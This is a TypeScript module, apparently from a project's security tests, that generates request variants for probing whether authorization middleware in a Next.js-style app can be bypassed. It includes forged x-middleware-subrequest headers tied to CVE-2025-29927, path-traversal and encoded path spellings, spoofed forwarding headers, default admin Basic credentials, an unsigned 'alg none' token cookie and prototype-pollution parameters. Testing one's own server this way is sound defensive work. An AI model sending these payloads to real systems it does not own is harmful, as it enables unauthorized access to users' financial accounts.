import type { Sent } from './http'

/**
 * Ways round a check that looks at the address or the headers, as they were found in servers like ours: the forged mark of
 * an inner request (CVE-2025-29927), the addresses of flight and segment data (CVE-2026-44575), parameters given from
 * outside (CVE-2026-44574), and the many spellings of one path.
 */
export function bypassVariants(path: string): Sent[] {
  const [bare = '', query] = path.split('?')
  const withQuery = (spelled: string, more = '') => {
    const all = [query, more].filter(Boolean).join('&')
    return all ? `${spelled}?${all}` : spelled
  }
  return [
    ...innerHeaders().map((headers) => ({ path, headers })),
    ...spellings(bare).map((spelled) => ({ path: withQuery(spelled) })),
    ...spellings(bare).flatMap((spelled) => [FLIGHT, INNER].map((headers) => ({ path: withQuery(spelled), headers }))),
    ...parameters(bare).map((more) => ({ path: withQuery(bare, more) })),
    ...parameters(bare).map((more) => ({ path: withQuery(bare, more), headers: FLIGHT })),
    ...METHODS.map((method) => ({ method, path })),
    ...METHODS.map((method) => ({ method, path, headers: INNER })),
    ...cookies().map((cookie) => ({ path, headers: { cookie } })),
  ]
}

const FLIGHT = { rsc: '1', 'next-router-prefetch': '1' }
const INNER = { 'x-middleware-subrequest': Array.from({ length: 5 }, () => 'proxy').join(':') }
const METHODS = ['HEAD', 'OPTIONS', 'PUT', 'PATCH', 'DELETE', 'PROPFIND', 'TRACE', 'POST']

function innerHeaders(): Record<string, string>[] {
  const names = ['middleware', 'src/middleware', 'proxy', 'src/proxy', 'pages/_middleware', 'app/middleware']
  const forged = names.flatMap((name) => [name, Array.from({ length: 5 }, () => name).join(':')])
  const tree = encodeURIComponent(JSON.stringify(['', { children: ['(app)', { children: ['__PAGE__', {}] }] }, null, 'refetch']))
  return [
    ...forged.map((value) => ({ 'x-middleware-subrequest': value })),
    { 'x-middleware-next': '1' },
    { 'x-middleware-rewrite': '/' },
    { 'x-middleware-invoke': '1' },
    { 'x-middleware-skip': '1' },
    { 'x-middleware-set-cookie': 'saldo-session=x' },
    { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'saldo-session=x' },
    { 'x-invoke-path': '/' },
    { 'x-invoke-status': '200' },
    { 'x-matched-path': '/accounts' },
    { 'x-now-route-matches': '1=%2Faccounts' },
    { 'x-nextjs-data': '1' },
    { 'x-prerender-revalidate': '1' },
    { 'x-original-url': '/accounts' },
    { 'x-rewrite-url': '/accounts' },
    { 'x-http-method-override': 'GET' },
    { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' },
    { 'x-forwarded-host': 'localhost', 'x-forwarded-proto': 'https' },
    { 'x-forwarded-uri': '/api/health' },
    { rsc: '1' },
    { rsc: '1', 'next-router-prefetch': '1' },
    { rsc: '1', 'next-router-prefetch': '2' },
    { rsc: '1', 'next-router-state-tree': tree },
    { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
    { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/__PAGE__' },
    { rsc: '1', 'next-url': '/accounts' },
    { 'next-router-state-tree': tree },
    { 'next-hmr-refresh': '1', rsc: '1' },
    { 'next-action': '0'.repeat(42) },
    { purpose: 'prefetch', 'x-purpose': 'preview' },
    { authorization: 'Bearer null' },
    { authorization: 'Basic YWRtaW46YWRtaW4=' },
    { 'x-user-id': '00000000-0000-7000-8000-000000000000', 'x-household-id': '00000000-0000-7000-8000-000000000000' },
    { range: 'bytes=0-100' },
    { 'if-none-match': '*' },
  ]
}

function spellings(path: string): string[] {
  const last = path.slice(path.lastIndexOf('/') + 1)
  const head = path.slice(0, path.length - last.length)
  const capital = path.replace(/[a-z]/, (letter) => letter.toUpperCase())
  return [
    ...[`${path}.rsc`, `${path}.txt`, `${path}.json`, `${path}.html`, `${path}.css`, `${path}.segments/_tree.segment.rsc`],
    ...[`${path}.segments/__PAGE__.segment.rsc`, `${path}/index.rsc`, `${path}.prefetch.rsc`, `/_next/data/build${path}.json`],
    ...[`${path}/`, `${path}//`, `/${path}`, `//${path}`, `${path}/.`, `/.${path}`, `${path}/..;/`, `/..;${path}`, `/x/..${path}`],
    ...[`/x/%2e%2e${path}`, `/x/..%2f${path.slice(1)}`, `/x/%2e%2e%2f${path.slice(1)}`, `/%2e${path}`, `/%2f${path}`],
    ...[`${head}%2f${last}`, `${head}%5c${last}`, `${path}%2f`, `${path}%20`, `${path}%00`, `${path}%0a`, `${path}.`, `${path};`],
    ...[`${path};jsessionid=1`, `${path}%3b`, `${path}%23`, `${path}%3f`, `${path}~`, `${path}*`, capital, path.toUpperCase()],
    ...[encodeFirst(path), encodeFirst(encodeFirst(path)), `/en${path}`, `/fi${path}`, `/_next${path}`, `/_next/static/..${path}`],
    ...[`/_next/static/%2e%2e/%2e%2e${path}`, `/_next/static/..%2f..${path}`, `/api/health/..${path}`, `/icons/..${path}`, `/(app)${path}`],
    ...[`/app/(app)${path}`, `/app${path}/page`, `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`],
  ]
}

function parameters(path: string): string[] {
  return [
    ...['_rsc=1', '_rsc=', '_rsc=abc&_rsc=def', 'nxtPaccountId=1', 'nxtPbankSessionId=1', 'nxtIaccountId=1', 'nextInternalLocale=en'],
    ...[`nxtP=${encodeURIComponent(path)}`, '__nextLocale=en', '__nextDefaultLocale=en', '__nextDataReq=1', '__NEXT_DATA__=1'],
    ...['_nextSegment=_tree', '__flight__=1', '__next_edge=1', 'amp=1', 'nextjs=1', 'preview=1', '__proto__[viewer]=1'],
    ...['viewer=1&role=owner', 'saldo-session=1', 'token=1', 'callbackUrl=%2F', 'next=%2F', 'error=1'],
  ]
}

function cookies(): string[] {
  const names = ['saldo-session', '__Host-saldo-session', '__Secure-next-auth.session-token', 'next-auth.session-token']
  const values = [
    '',
    'null',
    'undefined',
    'true',
    'A'.repeat(43),
    `${'A'.repeat(42)}'`,
    '../../x',
    'eyJhbGciOiJub25lIn0.e30.',
    'A'.repeat(6_000),
  ]
  return [...names.flatMap((name) => values.map((value) => `${name}=${value}`)), '__prerender_bypass=1', '__next_preview_data=1']
}

function encodeFirst(path: string): string {
  return path.replace(/[a-zA-Z%](?=[^/]*$)/, (letter) => `%${letter.charCodeAt(0).toString(16)}`)
}
